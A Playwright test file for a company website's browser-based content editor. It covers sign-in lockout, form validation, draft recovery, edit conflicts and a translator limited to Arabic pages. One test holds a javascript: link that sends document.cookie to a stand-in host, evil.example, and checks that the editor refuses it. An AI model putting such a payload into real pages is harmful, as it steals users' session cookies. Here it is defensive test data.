/**
 * Editing content in the browser, as the company's staff do it (the publish itself is
 * publish.spec.ts): a wrong value refused at its field with the file unchanged, the comments of
 * site.yaml kept, two people saving the same file, an Arabic translator who edits Arabic right to
 * left and nothing else, and a translation marked out of date when the English changes. axe finds
 * nothing on the forms; screenshots of each page at a phone's and a desktop's width.
 */
import { mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { Page } from "@playwright/test";
import sharp from "sharp";
import { parse } from "yaml";
import { editorText } from "../../app/admin/editor-text.ts";
import { fillTemplate } from "../../app/format/template.ts";
import { ruleText } from "../../app/content/schemas/rules.ts";
import { fieldText, pageName } from "../../app/admin/field-help/index.ts";
import { photoPlace } from "../../app/admin/field-help/photo-places.ts";
import { editorAccount, editorPassword } from "./admin-accounts.ts";
import { expect, expectNoViolations, filled, holdScripts, siteDataDir, test } from "./helpers.ts";

const root = fileURLToPath(new URL("../..", import.meta.url));
const password = editorPassword;
const words = editorText.en;
const shots = join(root, "test-results/screenshots");
const saved = (file: string) =>
  readFileSync(join(siteDataDir, "content-history/content", `${file}.yaml`), "utf8");

// Screenshots of long forms at two widths and axe on each page take a while on a busy machine.
test.describe.configure({ mode: "serial", timeout: 120_000 });

const account = editorAccount;

async function signIn(page: Page, email: string) {
  await page.goto("/admin/login?language=en");
  await page.getByLabel(words.signIn.email).fill(email);
  await page.getByLabel(words.signIn.password).fill(password);
  await page.getByRole("button", { name: words.signIn.button }).click();
  await expect(page).toHaveURL(/\/admin$/);
}

async function screenshots(page: Page, name: string) {
  mkdirSync(shots, { recursive: true });
  for (const width of [360, 1440]) {
    await page.setViewportSize({ width, height: 900 });
    await page.screenshot({ path: join(shots, `admin-${name}-${width}.png`), fullPage: true });
  }
  await page.setViewportSize({ width: 1280, height: 720 });
}

test.beforeAll(() => {
  account("marketing@foundry.example", "--role", "editor");
  account("sales@foundry.example", "--role", "editor");
  account("arabic@foundry.example", "--role", "translator", "--languages", "ar");
});

test("sign-in waits after repeated failures, saying for how long, even with the right password", async ({
  page,
}) => {
  // An account of each try's own: a retry must not start locked out by the try before it.
  const email = `locked-${test.info().retry}@foundry.example`;
  account(email, "--role", "editor");
  await page.goto("/admin/login?language=en");
  // Each answer awaited whole: the alert of the attempt before must not stand for this one's.
  const signIn = async () => {
    const answered = page.waitForResponse(
      (response) => response.request().method() === "POST" && response.url().includes("/admin/login"),
    );
    await page.getByRole("button", { name: words.signIn.button }).click();
    await answered;
    await page.waitForLoadState("load");
  };
  for (let attempt = 1; attempt <= 5; attempt++) {
    await page.getByLabel(words.signIn.email).fill(email);
    await page.getByLabel(words.signIn.password).fill(`not the password ${attempt}`);
    await signIn();
    await expect(page.getByRole("alert")).toHaveText(words.signIn.wrong);
  }
  await page.getByLabel(words.signIn.password).fill(password);
  await signIn();
  await expect(page.getByRole("alert")).toHaveText(/^Too many attempts: try again in \d+ minutes\.$/);
  await expect(page).toHaveURL(/\/admin\/login$/);
});

test("works from the keyboard alone: sign in, reach a file, change a value and save with Enter", async ({
  page,
}) => {
  await page.goto("/admin/login?language=en");
  await page.getByLabel(words.signIn.email).focus();
  await page.keyboard.type("marketing@foundry.example");
  await page.keyboard.press("Tab");
  await page.keyboard.type(password);
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/\/admin$/);
  // Tab until the link to the files has the focus, then follow it.
  const files = page.getByRole("link", { name: words.nav.files });
  for (
    let presses = 0;
    presses < 20 && !(await files.evaluate((link) => link === document.activeElement));
    presses++
  )
    await page.keyboard.press("Tab");
  await expect(files).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/\/admin\/files$/);
  await page.goto("/admin/edit/en/not-found");
  const field = page.locator("input[name^='f.'][type=text]").first();
  await field.focus();
  await page.keyboard.press("End");
  await page.keyboard.type(" ");
  await page.keyboard.press("Backspace");
  // Enter in a field is the form's first button: Save, never a list's Move or Remove.
  await page.keyboard.press("Enter");
  await expect(page.getByRole("status")).toBeVisible();
  await expect(page).toHaveURL(/\/admin\/edit\/en\/not-found\?saved=/);
});

test("a wrong value is refused at its field and the file is unchanged; a right one is saved with site.yaml's comments kept", async ({
  page,
}) => {
  await signIn(page, "marketing@foundry.example");
  await screenshots(page, "dashboard");
  await page.getByRole("link", { name: words.nav.files }).click();
  await page
    .getByRole("link", { name: pageName("site", "en") })
    .first()
    .click();
  await expectNoViolations(page, "/admin/edit/site");
  await screenshots(page, "edit-site-en");
  const before = saved("site");
  // Fields by the words written for them (app/admin/field-help/), not by their keys.
  const phone = page.getByRole("group", { name: fieldText("site", ["phone"], "en").label, exact: true });
  const label = (key: string) => fieldText("site", ["phone", key], "en").label;
  const tel = phone.getByLabel(label("tel"));
  const display = phone.getByLabel(label("display"));
  await tel.fill("call us");
  await page.getByRole("button", { name: words.edit.save }).click();
  await expect(page.getByRole("alert")).toContainText(filled(words.edit.problems));
  await expect(tel).toHaveAttribute("aria-invalid", "true");
  await expect(tel).toHaveValue("call us");
  await expect(phone.getByText(/^expected|is not in the expected form/)).toBeVisible();
  expect(saved("site")).toBe(before);
  await expectNoViolations(page, "/admin/edit/site with a problem");

  // A number the file does not hold yet, so a retry (or a second run on the same data) saves too.
  const last = before.includes("000 111") ? "112" : "111";
  await tel.fill(`+390521000${last}`);
  await display.fill(`+39 0521 000 ${last}`);
  await page.getByRole("button", { name: words.edit.save }).click();
  // A save checks the whole site before it commits: seconds when the other worker loads the CPU.
  await expect(page.getByRole("status")).toContainText(filled(words.edit.saved), { timeout: 15_000 });
  const after = saved("site");
  expect(after).toContain(`display: +39 0521 000 ${last}`);
  const comments = (text: string) => text.split("\n").filter((line) => line.trimStart().startsWith("#"));
  expect(comments(after)).toEqual(comments(before));
  expect(comments(after).length).toBeGreaterThan(3);

  await page.getByRole("link", { name: words.nav.history }).click();
  // The change in words: the page, the field, its text before and after, open to read.
  const newest = page.locator("ol.changes > li").first();
  await expect(newest.getByText(pageName("site", "en"), { exact: false }).first()).toBeVisible();
  await expect(newest.locator("td.value").filter({ hasText: `+39 0521 000 ${last}` })).toBeVisible();
  await expect(newest.getByText(words.history.notLive)).toBeVisible();
  await expectNoViolations(page, "/admin/history");
  await screenshots(page, "history");
  await page.getByRole("link", { name: words.nav.publish }).click();
  await expectNoViolations(page, "/admin/publish");
  await screenshots(page, "publish");
});

test("nothing typed is lost: a reload, a closed tab and a session that ran out bring it back, with a notice", async ({
  browser,
}) => {
  const context = await browser.newContext();
  let page = await context.newPage();
  await signIn(page, "marketing@foundry.example");
  const file = "en/not-found";
  await page.goto(`/admin/edit/${file}`);
  const field = page.locator("input[name^='f.'][type=text], textarea[name^='f.']").first();
  const name = (await field.getAttribute("name"))!;
  const before = await field.inputValue();
  const typed = `${before} — typed, not saved`;
  await field.fill(typed);
  // Kept as it is typed (a moment after the last key).
  await expect.poll(() => page.evaluate(() => Object.keys(localStorage).length)).toBeGreaterThan(0);

  // A reload: the typed text is back, said so, and the file was never touched.
  page.once("dialog", (dialog) => dialog.accept());
  await page.reload();
  await expect(page.locator(`[name="${name}"]`)).toHaveValue(typed);
  await expect(page.locator(".restored")).toBeVisible();
  expect(saved(file)).toContain(before);
  expect(saved(file)).not.toContain("typed, not saved");

  // A closed tab, then the page opened again.
  await page.close({ runBeforeUnload: false });
  page = await context.newPage();
  await page.goto(`/admin/edit/${file}`);
  await expect(page.locator(`[name="${name}"]`)).toHaveValue(typed);

  // The session runs out (signed out elsewhere): the save shows the sign-in form; signing in
  // there returns to the page, with the typed text back.
  await context.clearCookies();
  await page.getByRole("button", { name: words.edit.save }).first().click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(words.signIn.title);
  await page.getByLabel(words.signIn.email).fill("marketing@foundry.example");
  await page.getByLabel(words.signIn.password).fill(password);
  await page.getByRole("button", { name: words.signIn.button }).click();
  await expect(page).toHaveURL(new RegExp(`/admin/edit/${file}$`));
  await expect(page.locator(`[name="${name}"]`)).toHaveValue(typed);

  // Dropped on request: the page as saved.
  await page.getByRole("button", { name: words.edit.discard }).click();
  await expect(page.locator(`[name="${name}"]`)).toHaveValue(before);
  await page.reload();
  await expect(page.locator(`[name="${name}"]`)).toHaveValue(before);
  await expect(page.locator(".restored")).toHaveCount(0);

  // Typed again and saved: the copy is gone with the save.
  await page.locator(`[name="${name}"]`).fill(`${before} (kept)`);
  await page.getByRole("button", { name: words.edit.save }).first().click();
  await expect(page.getByRole("status").first()).toContainText(filled(words.edit.saved));
  // The page's script drops it once it runs, after the page has painted: waited for, not assumed.
  await expect
    .poll(() =>
      page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("foundry-editor-draft:"))),
    )
    .toEqual([]);
  await page.locator(`[name="${name}"]`).fill(before);
  await page.getByRole("button", { name: words.edit.save }).first().click();
  await expect(page.getByRole("status").first()).toContainText(filled(words.edit.saved));

  // Leaving with unsaved changes asks first.
  await page.locator(`[name="${name}"]`).fill(`${before} again`);
  await page.waitForTimeout(500);
  const asked = new Promise<string>((resolve) =>
    page.once("dialog", (dialog) => (resolve(dialog.type()), void dialog.dismiss())),
  );
  await page.goto("/admin/history").catch(() => undefined);
  expect(await asked).toBe("beforeunload");
  await context.close();
});

/** The editor's scripts held back until the returned function is called, as a busy machine delays them. */
const holdEditorScripts = (page: Page) => holdScripts(page, "**/admin/modules/**");

test("what is typed before the page's scripts run is kept: a draft fills only the fields as they came", async ({
  browser,
}) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, "marketing@foundry.example");
  const file = "en/not-found";
  await page.goto(`/admin/edit/${file}`);
  const [first, second] = await page.locator("input[name^='f.'][type=text], textarea[name^='f.']").all();
  const [kept, typed] = [(await first!.getAttribute("name"))!, (await second!.getAttribute("name"))!];
  const before = await page.locator(`[name="${typed}"]`).inputValue();
  await page.locator(`[name="${kept}"]`).fill("Kept from the last visit");
  await expect.poll(() => page.evaluate(() => Object.keys(localStorage).length)).toBeGreaterThan(0);

  // The page opened again on a slow machine: its script arrives after the person typed.
  const release = await holdEditorScripts(page);
  page.once("dialog", (dialog) => dialog.accept());
  await page.goto(`/admin/edit/${file}`, { waitUntil: "commit" });
  await page.locator(`[name="${typed}"]`).fill(`${before} typed at once`);
  release();
  await expect(page.locator(".restored")).toBeVisible();
  // The draft came back where the page was as it came; what was just typed stayed.
  await expect(page.locator(`[name="${kept}"]`)).toHaveValue("Kept from the last visit");
  await expect(page.locator(`[name="${typed}"]`)).toHaveValue(`${before} typed at once`);
  await page.close({ runBeforeUnload: false });
  await context.close();
});

test("a list's button pressed before the page's script ran: the answer keeps what was sent, not an older copy", async ({
  browser,
}) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, "marketing@foundry.example");
  const file = "en/home";
  await page.goto(`/admin/edit/${file}`);
  const name = (await page.locator("input[name^='f.'][type=text]").first().getAttribute("name"))!;
  await page.locator(`[name="${name}"]`).fill("An older copy, kept a minute ago");
  await expect.poll(() => page.evaluate(() => Object.keys(localStorage).length)).toBeGreaterThan(0);

  // The page again on a busy machine: typed into, and a list's Add pressed, before its script ran.
  const release = await holdEditorScripts(page);
  page.once("dialog", (dialog) => dialog.accept());
  await page.goto(`/admin/edit/${file}`, { waitUntil: "commit" });
  await page.locator(`[name="${name}"]`).fill("What was sent with the button");
  const add = page.locator('button[name="op"][value^="add:"]:not([hidden])').first();
  const list = (await add.getAttribute("value"))!.slice("add:".length);
  const count = Number(await page.locator(`input[name="len.${list}"]`).getAttribute("value"));
  await add.click();
  await expect(page.locator(`input[name="len.${list}"]`)).toHaveValue(String(count + 1));
  // Kept encrypted: the older copy as stored when the answer came, to tell when a newer one replaces it.
  const answered = await page.evaluate(() => JSON.stringify(localStorage));
  release();
  // The answer shows what was sent, kept as the newest copy once React runs the page (its lists'
  // handles appear); the older one does not come over it, now or after a reload.
  await expect(page.locator(".drag").first()).toBeAttached();
  await expect.poll(() => page.evaluate(() => JSON.stringify(localStorage))).not.toBe(answered);
  await expect(page.locator(`[name="${name}"]`)).toHaveValue("What was sent with the button");
  await expect(page.locator(".restored")).toHaveCount(0);
  page.once("dialog", (dialog) => dialog.accept());
  await page.goto(`/admin/edit/${file}`);
  await expect(page.locator(`[name="${name}"]`)).toHaveValue("What was sent with the button");
  await page.close({ runBeforeUnload: false });
  await context.close();
});

/** What a form would send, in order, without the token, the version and the button pressed. */
const formEntries = (page: Page) =>
  page
    .locator("#edit-form")
    .evaluate((form: HTMLFormElement) =>
      [...new FormData(form)]
        .filter(([name]) => !["csrf", "version", "op"].includes(name))
        .map(([name, value]) => `${name}=${String(value)}`),
    );

test("a list's Add, Move and Remove change the page without a request, and send what the server would have made of them", async ({
  browser,
}) => {
  const file = "en/foundry";
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, "marketing@foundry.example");
  await page.goto(`/admin/edit/${file}`);
  const cameWith = await formEntries(page);
  const sent: string[] = [];
  page.on("request", (request) => {
    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) sent.push(request.url());
  });

  // The operations, by their buttons: the first panel moved down, an item added to a list inside
  // a panel and typed into, and another panel removed.
  const panels = Number(await page.locator('input[name="len.panels"]').inputValue());
  const nested = (await page
    .locator('button[name="op"][value^="add:panels."]:not([hidden])')
    .first()
    .getAttribute("value"))!.slice("add:".length);
  const nestedPanel = Number(nested.split(".")[1]);
  // Moving panel 0 down swaps it with panel 1: the list inside is then at the other's place.
  const nestedAfterMove = nested.replace(
    /^panels\.\d+/,
    `panels.${nestedPanel === 0 ? 1 : nestedPanel === 1 ? 0 : nestedPanel}`,
  );
  const removed = nestedAfterMove.startsWith(`panels.${panels - 1}.`) ? panels - 2 : panels - 1;
  const newItem = `fieldset[data-list="${nestedAfterMove}"] > ol > li:last-child`;
  const steps = async (target: Page, withScripts: boolean) => {
    // Without scripts each button is a trip to the server: a click returns once the answer
    // starts, so each waits for the whole page (a slow machine streams it in parts).
    const press = async (selector: string) => {
      await target.locator(selector).click();
      if (!withScripts) await target.waitForLoadState("load");
    };
    await press('button[value="down:panels.0"]');
    if (withScripts)
      await expect(target.locator("#edit-form [aria-live]")).toHaveText(
        words.edit.form.moved.replace("{n}", "2"),
      );
    await press(`button[value="add:${nestedAfterMove}"]`);
    const field = target.locator(`${newItem} input[type=text], ${newItem} textarea`).first();
    // With scripts, the new item's first field has the focus, ready to type in.
    if (withScripts) await expect(field).toBeFocused();
    await field.fill("Added in the page, not yet saved");
    await press(`button[value="remove:panels.${removed}"]`);
  };
  await steps(page, true);
  expect(sent, "no list operation sends a request when scripts run").toEqual([]);
  const inPage = await formEntries(page);
  expect(inPage).not.toEqual(cameWith);
  expect(await page.locator('input[name="len.panels"]').inputValue()).toBe(String(panels - 1));
  // Every name and label renumbered: each id is used once, each label points at its field.
  const ids = await page.locator("#edit-form [id]").evaluateAll((all) => all.map((element) => element.id));
  expect(new Set(ids).size).toBe(ids.length);
  expect(
    await page
      .locator("#edit-form label[for]")
      .evaluateAll((labels) =>
        labels
          .filter((label) => !document.getElementById(label.getAttribute("for")!))
          .map((label) => label.outerHTML),
      ),
  ).toEqual([]);

  // The same buttons without scripts: each a trip to the server, which answers with the list
  // changed. The form sends the same.
  const plain = await browser.newContext({ javaScriptEnabled: false });
  const withoutScripts = await plain.newPage();
  await signIn(withoutScripts, "marketing@foundry.example");
  await withoutScripts.goto(`/admin/edit/${file}`);
  await steps(withoutScripts, false);
  // The last answer is the server's HTML as it came: read by a page that runs scripts.
  const html = await withoutScripts.content();
  await plain.close();
  const reader = await context.newPage();
  await reader.setContent(html);
  expect(inPage).toEqual(await formEntries(reader));
  await reader.close();

  // A reload brings the changed list back as it was left, with what was typed in the new item.
  page.once("dialog", (dialog) => dialog.accept());
  await page.reload();
  await expect(page.locator(".restored")).toBeVisible();
  expect(await formEntries(page)).toEqual(inPage);
  // Dropped: the list as the page came.
  await page.getByRole("button", { name: words.edit.discard }).click();
  expect(await formEntries(page)).toEqual(cameWith);
  await page.close({ runBeforeUnload: false });
  await context.close();
});

test("an item is dragged to its place by its handle, or moved there with the arrow keys", async ({
  browser,
}) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, "marketing@foundry.example");
  await page.goto("/admin/edit/en/foundry");
  const sent: string[] = [];
  page.on("request", (request) => {
    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) sent.push(request.url());
  });
  // A list of short items: the tests of the valve panel ("Hydrostatic shell test"…).
  const list = (await page
    .locator('fieldset[data-list$=".list.items"]')
    .evaluateAll((all) =>
      all
        .find((fieldset) => fieldset.querySelectorAll(":scope > ol > li").length >= 3)
        ?.getAttribute("data-list"),
    ))!;
  const values = () =>
    page
      .locator(
        `fieldset[data-list="${list}"] > ol > li input[type=text], fieldset[data-list="${list}"] > ol > li textarea`,
      )
      .evaluateAll((fields) =>
        fields.map((field) => `${(field as HTMLInputElement).name}=${(field as HTMLInputElement).value}`),
      );
  const handle = (place: number) =>
    page.locator(`fieldset[data-list="${list}"] > ol > li:nth-child(${place}) > .item-actions > .drag`);
  // What is typed and not saved moves with its item.
  const firstField = page
    .locator(`fieldset[data-list="${list}"] > ol > li:nth-child(1)`)
    .locator("input[type=text], textarea")
    .first();
  await firstField.fill("Typed, not saved, then moved");
  const before = (await values()).map((entry) => entry.split("=")[1]);
  expect(before[0]).toBe("Typed, not saved, then moved");

  // The arrow keys on the first item's handle: it goes down one place, and keeps the focus.
  await handle(1).focus();
  await page.keyboard.press("ArrowDown");
  expect((await values()).slice(0, 2)).toEqual([`f.${list}.0=${before[1]}`, `f.${list}.1=${before[0]}`]);
  await expect(handle(2)).toBeFocused();
  await page.keyboard.press("ArrowUp");
  expect((await values()).slice(0, 2)).toEqual([`f.${list}.0=${before[0]}`, `f.${list}.1=${before[1]}`]);
  const said = page.locator("#edit-form [aria-live] > *");
  await expect(said).toHaveText(words.edit.form.moved.replace("{n}", "1"));
  // The line as said now, marked: the same words said again are a new line, which is read out.
  await said.evaluate((line) => line.setAttribute("data-said-before", ""));

  // The third item dragged above the first with the mouse.
  await handle(3).scrollIntoViewIfNeeded();
  const from = (await handle(3).boundingBox())!;
  const to = (await page.locator(`fieldset[data-list="${list}"] > ol > li:nth-child(1)`).boundingBox())!;
  await page.mouse.move(from.x + from.width / 2, from.y + from.height / 2);
  await page.mouse.down();
  await page.mouse.move(from.x + from.width / 2, to.y + 4, { steps: 8 });
  await page.mouse.up();
  expect((await values()).slice(0, 3)).toEqual([
    `f.${list}.0=${before[2]}`,
    `f.${list}.1=${before[0]}`,
    `f.${list}.2=${before[1]}`,
  ]);
  await expect(page.locator("#edit-form [aria-live]")).toHaveText(words.edit.form.moved.replace("{n}", "1"));
  await expect(page.locator("#edit-form [aria-live] > [data-said-before]")).toHaveCount(0);

  // A whole panel, with what was typed in its fields and the lists inside it, moved by its handle.
  const heading = page.locator('[name="f.panels.0.heading"]');
  await heading.fill("A panel's heading, typed");
  const inner = (await page.locator('fieldset[data-list^="panels.0."]').first().getAttribute("data-list"))!;
  const innerLength = await page.locator(`input[name="len.${inner}"]`).inputValue();
  await page.locator(`fieldset[data-list="panels"] > ol > li:nth-child(1) > .item-actions > .drag`).focus();
  await page.keyboard.press("ArrowDown");
  await expect(page.locator('[name="f.panels.1.heading"]')).toHaveValue("A panel's heading, typed");
  const movedInner = inner.replace(/^panels\.0\./, "panels.1.");
  await expect(page.locator(`input[name="len.${movedInner}"]`)).toHaveValue(innerLength);
  expect(sent).toEqual([]);
  await page.close({ runBeforeUnload: false });
  await context.close();
});

test("each field is checked as it is typed: no number, an empty field and a character count said at the field, with no request", async ({
  browser,
}) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, "marketing@foundry.example");
  await page.goto("/admin/edit/site");
  const sent: string[] = [];
  page.on("request", (request) => {
    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) sent.push(request.url());
  });
  const form = words.edit.form;

  // A figure: "12 kg" is no number, said when the field is left; "12" is, and the words go.
  const figure = page.locator("[data-number]").first();
  const figureId = (await figure.getAttribute("id"))!;
  await figure.fill("12 kg");
  await figure.press("Tab");
  await expect(page.locator(`#check-${figureId}`)).toHaveText(
    (await figure.getAttribute("data-number")) === "integer" ? form.checkInteger : form.checkNumber,
  );
  await expect(figure).toHaveAttribute("aria-invalid", "true");
  expect(await figure.getAttribute("aria-describedby")).toContain(`check-${figureId}`);
  await figure.fill("12");
  await expect(page.locator(`#check-${figureId}`)).toHaveCount(0);
  // Twelve hundred as an Italian office writes it: a figure the server reads too (typed-number.ts).
  await figure.fill("1.200");
  await figure.press("Tab");
  await expect(page.locator(`#check-${figureId}`)).toHaveCount(0);
  await expect(figure).not.toHaveAttribute("aria-invalid", "true");

  // A text that must hold words, emptied.
  const text = page.locator("input[type=text][minlength='1']").first();
  const textId = (await text.getAttribute("id"))!;
  await text.fill("");
  await text.press("Tab");
  await expect(page.locator(`#check-${textId}`)).toHaveText(form.checkEmpty);
  await text.fill("Fonderia Rossi");
  await expect(page.locator(`#check-${textId}`)).toHaveCount(0);

  // A text with a limit counts its characters while it is typed.
  const limited = page.locator("[maxlength]").first();
  const limitedId = (await limited.getAttribute("id"))!;
  const max = (await limited.getAttribute("maxlength"))!;
  // Short of the limit (the first such field may take only twelve).
  const some = "Twelve chars".slice(0, Number(max) - 1);
  await limited.fill(some);
  await expect(page.locator(`#count-${limitedId}`)).toHaveText(
    form.checkCount.replace("{count}", String(some.length)).replace("{max}", max),
  );
  // At its limit it says so: the browser takes no more keys, which would otherwise look broken.
  await limited.fill("x".repeat(Number(max)));
  await limited.press("y");
  await expect(limited).toHaveValue("x".repeat(Number(max)));
  await expect(page.locator(`#count-${limitedId}`)).toHaveText(form.checkFull.replaceAll("{max}", max));
  await limited.fill(some);
  await expect(page.locator(`#count-${limitedId}`)).toHaveText(
    form.checkCount.replace("{count}", String(some.length)).replace("{max}", max),
  );
  expect(sent).toEqual([]);
  await page.close({ runBeforeUnload: false });
  await context.close();
});

test("the live preview shows the page with what is typed, unsaved, in English and Arabic, at a phone's and a desktop's width", async ({
  browser,
}) => {
  const live = words.edit.live;
  for (const { file, field, dir } of [
    { file: "en/home", field: "f.hero.heading", dir: "ltr" },
    { file: "ar/contact", field: "f.banner.title", dir: "rtl" },
  ])
    for (const width of [360, 1440]) {
      const context = await browser.newContext({ viewport: { width, height: 900 } });
      const page = await context.newPage();
      await signIn(page, "marketing@foundry.example");
      await page.goto(`/admin/edit/${file}`);
      const frame = page.frameLocator(`iframe[name="live-preview"]`);
      const before = await page.locator(`[name="${field}"]`).inputValue();
      // A phone opens it over the bottom of the screen; a desktop has it beside the form.
      if (width < 1200) await page.getByRole("button", { name: live.show }).click();
      await expect(page.locator("aside.live-preview")).toBeVisible();
      // The page as saved, rendered by the site's own build, in the file's language and direction.
      await expect(frame.locator("html")).toHaveAttribute("dir", dir);
      await expect(frame.locator("h1").first()).toContainText(before.slice(0, 12));
      const marker = `Zebra ${width}`;
      await page.locator(`[name="${field}"]`).fill(`${before} ${marker}`);
      const typed = Date.now();
      await expect(frame.getByText(marker).first()).toBeVisible({ timeout: 5000 });
      // Timing goals belong to benchmarks: the measure is reported, the 1 s is the aim.
      test.info().annotations.push({
        type: "live preview",
        description: `${file} at ${width} px: shown ${Date.now() - typed} ms after the last key`,
      });
      // The site's page without its scripts, and nothing saved.
      expect(await frame.locator("script").count()).toBe(0);
      expect(saved(file)).not.toContain(marker);
      await page.close({ runBeforeUnload: false });
      await context.close();
    }

  // Without JavaScript the preview's button shows the same page with what was typed.
  const context = await browser.newContext({ javaScriptEnabled: false });
  const page = await context.newPage();
  await signIn(page, "marketing@foundry.example");
  await page.goto("/admin/edit/ar/contact");
  await page.locator(`[name="f.banner.title"]`).fill("اتصل بنا Zebra");
  await page.getByRole("button", { name: live.refresh }).click();
  const frame = page.frameLocator(`iframe[name="live-preview"]`);
  await expect(frame.getByText("Zebra").first()).toBeVisible();
  await expect(frame.locator("html")).toHaveAttribute("dir", "rtl");
  expect(saved("ar/contact")).not.toContain("Zebra");
  await context.close();
});

test("the second of two people changing the same field is shown both values in words and overwrites nothing", async ({
  browser,
}) => {
  const first = await (await browser.newContext()).newPage();
  const second = await (await browser.newContext()).newPage();
  await signIn(first, "marketing@foundry.example");
  await signIn(second, "sales@foundry.example");
  for (const page of [first, second]) await page.goto("/admin/edit/en/about");
  const field = (page: Page) => page.locator("input[name^='f.'][type=text]").first();
  await field(first).fill("Our foundry, as marketing writes it");
  await first.getByRole("button", { name: words.edit.save }).click();
  await expect(first.getByRole("status")).toContainText(filled(words.edit.saved));
  await field(second).fill("Our foundry, as sales writes it");
  await second.getByRole("button", { name: words.edit.save }).click();
  await expect(second.getByRole("heading", { name: words.edit.conflictTitle })).toBeVisible();
  const conflict = second
    .getByRole("alert")
    .filter({ has: second.getByRole("heading", { name: words.edit.conflictTitle }) });
  await expect(conflict.getByText(/^Theirs \(marketing@foundry\.example, .+\):$/)).toBeVisible();
  await expect(conflict.getByText("Our foundry, as marketing writes it", { exact: true })).toBeVisible();
  await expect(conflict.getByText("Our foundry, as sales writes it", { exact: true })).toBeVisible();
  // The form keeps what this person typed.
  await expect(field(second)).toHaveValue("Our foundry, as sales writes it");
  expect(saved("en/about")).toContain("as marketing writes it");
  expect(saved("en/about")).not.toContain("as sales writes it");
  await expectNoViolations(second, "a conflict");
});

test("an Arabic translator edits Arabic right to left, and cannot change Italian, English or the facts", async ({
  page,
}) => {
  await signIn(page, "arabic@foundry.example");
  await page.getByRole("link", { name: words.nav.files }).click();
  await expect(page.getByRole("link", { name: pageName("home", "en"), exact: true })).toHaveCount(1);
  await expect(
    page.locator('a[href="/admin/edit/it/home"], a[href="/admin/edit/site"], a[href="/admin/edit/en/home"]'),
  ).toHaveCount(0);
  await page.getByRole("link", { name: pageName("contact", "en"), exact: true }).click();
  await expect(page).toHaveURL(/\/admin\/edit\/ar\/contact$/);
  const input = page.locator("input[name^='f.'][type=text][lang=ar]").first();
  await expect(input).toHaveAttribute("dir", "rtl");
  await expect(input).toHaveCSS("direction", "rtl");
  await input.fill("تواصل معنا اليوم");
  await page.getByRole("button", { name: words.edit.save }).click();
  await expect(page.getByRole("status")).toContainText(filled(words.edit.saved));
  expect(saved("ar/contact")).toContain("تواصل معنا اليوم");
  await expectNoViolations(page, "/admin/edit/ar/contact");
  await screenshots(page, "edit-contact-ar");
  for (const file of ["it/contact", "en/contact", "site"]) {
    const answer = await page.goto(`/admin/edit/${file}`);
    expect(answer?.status(), file).toBe(403);
    await expect(page.getByRole("alert")).toHaveText(words.edit.notYours);
  }
});

test("what was typed and not saved is kept encrypted, and leaves the browser at sign-out", async ({
  page,
}) => {
  await signIn(page, "marketing@foundry.example");
  await page.goto("/admin/edit/en/not-found");
  const field = page.locator("input[name^='f.'][type=text], textarea[name^='f.']").first();
  await field.fill(`${await field.inputValue()} — typed, not saved`);
  const drafts = () =>
    page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("foundry-editor-draft:")));
  await expect.poll(drafts).not.toEqual([]);
  // While signed in, what a public page's script could read of it is ciphertext only.
  const kept = await page.evaluate(() =>
    Object.entries(localStorage)
      .filter(([key]) => key.startsWith("foundry-editor-draft:"))
      .map(([, value]) => value)
      .join("\n"),
  );
  expect(kept).not.toContain("typed, not saved");
  expect(kept).not.toContain("f.");
  // A busy server answers the sign-out late, and the live preview sends what was typed last to
  // its frame meanwhile: that is not the person staying on the page.
  await page.route("**/admin/logout", async (route) => {
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    await route.continue();
  });
  await field.press("End");
  await field.pressSequentially(" and more");
  page.once("dialog", (dialog) => dialog.accept());
  await page.getByRole("button", { name: words.signOut }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(words.signIn.title);
  // The page signed out of clears its copy as it goes, which a loaded machine may run a moment
  // after the sign-in page shows: gone within seconds, or the test fails.
  await expect.poll(drafts, { timeout: 5_000 }).toEqual([]);
});

test("a link that would run a script is refused at its field, and the file is unchanged", async ({
  page,
}) => {
  // Issue 49: a translator once saved a javascript: address as the Arabic map's privacy link.
  await signIn(page, "arabic@foundry.example");
  await page.goto("/admin/edit/ar/contact");
  const before = saved("ar/contact");
  const href = page
    .getByRole("group", { name: fieldText("contact", ["details", "map", "providerPrivacy"], "en").label })
    .getByLabel(fieldText("contact", ["details", "map", "providerPrivacy", "href"], "en").label);
  for (const address of ["javascript:fetch('//evil.example/'+document.cookie)", "data:text/html,<b>hi</b>"]) {
    await href.fill(address);
    await page.getByRole("button", { name: words.edit.save }).click();
    await expect(page.getByRole("alert")).toContainText(filled(words.edit.problems));
    await expect(href).toHaveAttribute("aria-invalid", "true");
    await expect(href).toHaveValue(address);
    await expect(page.getByText(ruleText("en", { code: "safeLink", values: {} })).first()).toBeVisible();
    expect(saved("ar/contact")).toBe(before);
  }
});

test("a confirmed translation is marked out of date when the English changes", async ({ browser }) => {
  const translator = await (await browser.newContext()).newPage();
  const editor = await (await browser.newContext()).newPage();
  await signIn(translator, "arabic@foundry.example");
  await signIn(editor, "marketing@foundry.example");
  // The translator confirms the Arabic 404 page as a whole: its draft mark removed.
  await translator.goto("/admin/edit/ar/not-found");
  const draft = translator.getByLabel(words.edit.form.draft).first();
  if (await draft.isChecked()) await draft.uncheck();
  await translator.getByRole("button", { name: words.edit.save }).click();
  await expect(translator.getByRole("status")).toContainText(filled(words.edit.saved));
  await expect(translator.getByText(/out of date/i)).toHaveCount(0);
  // The English of that page changes.
  await editor.goto("/admin/edit/en/not-found");
  const english = editor.locator("input[name^='f.'][type=text], textarea[name^='f.']").first();
  const name = (await english.getAttribute("name")) ?? "";
  await english.fill(`${await english.inputValue()} (revised)`);
  await editor.getByRole("button", { name: words.edit.save }).click();
